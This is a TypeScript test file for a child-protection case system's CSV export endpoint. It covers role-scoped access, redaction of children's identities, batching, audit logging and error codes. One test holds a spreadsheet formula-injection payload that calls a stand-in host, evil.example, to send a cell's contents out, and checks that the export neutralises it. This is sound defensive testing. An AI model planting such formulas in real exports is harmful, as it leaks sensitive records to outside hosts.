import { sql } from 'kysely';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertCase } from './support/case-factories.js';
import { client, createOrganisation, PLACES, signedIn, type Session } from './support/factories.js';
import { createTestApp, type TestApp } from './support/test-app.js';

// GET /api/v1/exports/cases.csv: the case list in the caller's scope, streamed
// in batches, identities only for those who work the cases, audited.

let t: TestApp;
let cpwo: { user: { id: string }; session: Session };
let cso: { user: { id: string }; session: Session };
let supervisor: { user: { id: string }; session: Session };
const BULK = 2_150; // more than one batch of the export (2,000 rows)

const csv = (body: string) => parse(body, { columns: true, skip_empty_lines: true }) as Record<string, string>[];

beforeAll(async () => {
  t = await createTestApp();
  const office = await createOrganisation(t, { kind: 'district_office', placeId: PLACES.gasabo });
  const ngo = await createOrganisation(t, { kind: 'ngo', placeId: PLACES.gasabo });
  supervisor = await signedIn(t, { role: 'supervisor', jurisdictionId: PLACES.gasabo, organisationId: office.id });
  cpwo = await signedIn(t, {
    role: 'cpwo',
    jurisdictionId: PLACES.gasabo,
    organisationId: office.id,
    supervisorId: supervisor.user.id,
    trainingCompletedOn: '2025-01-01',
  });
  cso = await signedIn(t, {
    role: 'cso_caseworker',
    jurisdictionId: PLACES.gasabo,
    organisationId: ngo.id,
    supervisorId: supervisor.user.id,
    trainingCompletedOn: '2025-01-01',
  });
  await insertCase(t, { openedBy: cpwo.user.id, leadCaseworkerId: cso.user.id, supervisorId: supervisor.user.id, tier: 1, stage: 'implementation' });
  await insertCase(t, { openedBy: cpwo.user.id, leadCaseworkerId: cpwo.user.id, tier: 2, stage: 'assessment' });
  const other = await signedIn(t, { role: 'cpwo', jurisdictionId: PLACES.bugesera });
  await insertCase(t, { openedBy: other.user.id, placeId: PLACES.bugeseraVillage, tier: 1 });
  // Many Gasabo cases, several opened at the same microsecond, so batches meet on ties.
  const db = t.database.db;
  await sql`insert into incident_reports (id, reference, district_id, place_id, channel, what_happened, received_at, recorded_by, status, created_at, updated_at)
    select md5('r' || i)::uuid, 'RX-' || i, '12', ${PLACES.gasaboVillage}, 'izu', 'Test', '2024-01-01T08:00:00.123456Z'::timestamptz + (i / 3) * interval '1 second',
      ${cpwo.user.id}, 'case_opened', now(), now()
    from generate_series(1, ${BULK}) as i`.execute(db);
  await sql`insert into children (id, child_code, district_id, place_id, given_name, family_name, search_name, sex, created_by)
    select md5('c' || i)::uuid, '12-BULK' || i, '12', ${PLACES.gasaboVillage}, 'Bulk', 'Child' || i, 'bulk child' || i, 'male', ${cpwo.user.id}
    from generate_series(1, ${BULK}) as i`.execute(db);
  await sql`insert into cases (id, case_code, child_id, report_id, district_id, place_id, stage, tier, case_types, lead_caseworker_id, opened_at, opened_by, closed_at, closure_reason)
    select md5('k' || i)::uuid, '12-BULK' || i || '-01', md5('c' || i)::uuid, md5('r' || i)::uuid, '12', ${PLACES.gasaboVillage}, 'closed', 2,
      array['physical_violence'], ${cpwo.user.id}, '2024-01-01T09:00:00.123456Z'::timestamptz + (i / 3) * interval '1 second', ${cpwo.user.id},
      '2024-03-01T09:00:00Z', 'goals_and_benchmarks_met'
    from generate_series(1, ${BULK}) as i`.execute(db);
}, 120_000);
afterAll(() => t.close());

describe('GET /api/v1/exports/cases.csv', () => {
  it("streams a CPWO every case of the district, with the children's identities, each once", async () => {
    const res = await client(t, cpwo.session).get('/api/v1/exports/cases.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="rinda-cases-\d{4}-\d{2}-\d{2}\.csv"/);
    const rows = csv(res.body);
    expect(rows).toHaveLength(BULK + 2);
    expect(new Set(rows.map((r) => r.case_code)).size).toBe(BULK + 2);
    expect(rows.every((r) => r.district === '12')).toBe(true);
    expect(Object.keys(rows[0]!)).toEqual([
      'case_code',
      'child_code',
      'child_name',
      'date_of_birth',
      'sex',
      'age_at_opening',
      'district',
      'place',
      'stage',
      'tier',
      'case_types',
      'opened_at',
      'closed_at',
      'closure_reason',
      'next_due_at',
      'lead_caseworker',
    ]);
    const opened = rows.map((r) => r.opened_at!);
    expect([...opened].sort()).toEqual(opened);
    expect(rows.find((r) => r.stage === 'implementation')).toMatchObject({ child_name: 'Aline Uwase', tier: '1', case_types: 'physical_violence' });
  });

  it('filters by stage and tier', async () => {
    const res = await client(t, cpwo.session).get('/api/v1/exports/cases.csv?stage=implementation&tier=1');
    expect(res.statusCode).toBe(200);
    const rows = csv(res.body);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ stage: 'implementation', tier: '1' });
  });

  it("gives an NGO caseworker their own cases only, and a supervisor their supervisees' cases without the children's identities", async () => {
    const own = csv((await client(t, cso.session).get('/api/v1/exports/cases.csv')).body);
    expect(own).toHaveLength(1);
    expect(own[0]!.child_name).toBe('Aline Uwase');
    const res = await client(t, supervisor.session).get('/api/v1/exports/cases.csv');
    expect(res.statusCode).toBe(200);
    const rows = csv(res.body);
    expect(rows.length).toBeGreaterThan(BULK);
    expect(Object.keys(rows[0]!)).not.toContain('child_name');
    expect(Object.keys(rows[0]!)).not.toContain('date_of_birth');
    expect(res.body).not.toContain('Aline');
  });

  it('records who exported what, and how many rows, without names', async () => {
    const before = await t.database.db
      .selectFrom('audit_events')
      .select(sql<number>`max(seq)`.as('seq'))
      .executeTakeFirstOrThrow();
    await client(t, cpwo.session).get('/api/v1/exports/cases.csv?tier=1');
    const entries = await t.database.db
      .selectFrom('audit_events')
      .select(['actor_id', 'action', 'fields', 'details'])
      .where('seq', '>', before.seq)
      .orderBy('seq')
      .execute();
    expect(entries.map((e) => e.action)).toEqual(['case.export', 'case.export_batch', 'case.export_completed']);
    expect(entries[0]!.actor_id).toBe(cpwo.user.id);
    expect(entries[0]!.fields).toContain('child_name');
    expect(entries[0]!.details).toEqual({ format: 'csv', tier: 1 });
    // The batch entry names the cases the file carried.
    const tier1 = await t.database.db.selectFrom('cases').select('id').where('tier', '=', 1).where('district_id', '=', '12').execute();
    expect(entries[1]!.details).toEqual({ ids: tier1.map((c) => c.id) });
    expect(entries[2]!.details).toEqual({ rows: 1, tier: 1 });
    expect(JSON.stringify(entries)).not.toContain('Aline');
  });

  it('writes a child named like a formula as text, never as a live formula (CSV injection)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
    const made = await insertCase(t, {
      openedBy: cpwo.user.id,
      leadCaseworkerId: cpwo.user.id,
      tier: 1,
      stage: 'planning',
      givenName: evil,
      familyName: '+SUM(1,2)',
    });
    const res = await client(t, cpwo.session).get('/api/v1/exports/cases.csv?stage=planning');
    expect(res.statusCode).toBe(200);
    const rows = csv(res.body);
    const row = rows.find((r) => r.case_code === made.case.case_code)!;
    expect(row.child_name).toBe(`'${evil} +SUM(1,2)`);
    // No cell of the file, as a spreadsheet reads it, starts a formula.
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(res.body).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
  });

  it('refuses roles that read no case files (403), anonymous callers (401) and unknown parameters (400)', async () => {
    for (const role of ['izu', 'analyst', 'ncda_officer', 'hotline_agent', 'service_provider'] as const) {
      const { session } = await signedIn(t, { role, jurisdictionId: role === 'izu' ? PLACES.gasaboVillage : PLACES.rwanda });
      const res = await client(t, session).get('/api/v1/exports/cases.csv');
      expect(res.statusCode, role).toBe(403);
    }
    expect((await client(t).get('/api/v1/exports/cases.csv')).statusCode).toBe(401);
    const bad = await client(t, cpwo.session).get('/api/v1/exports/cases.csv?district=57');
    expect(bad.statusCode).toBe(400);
  });
});
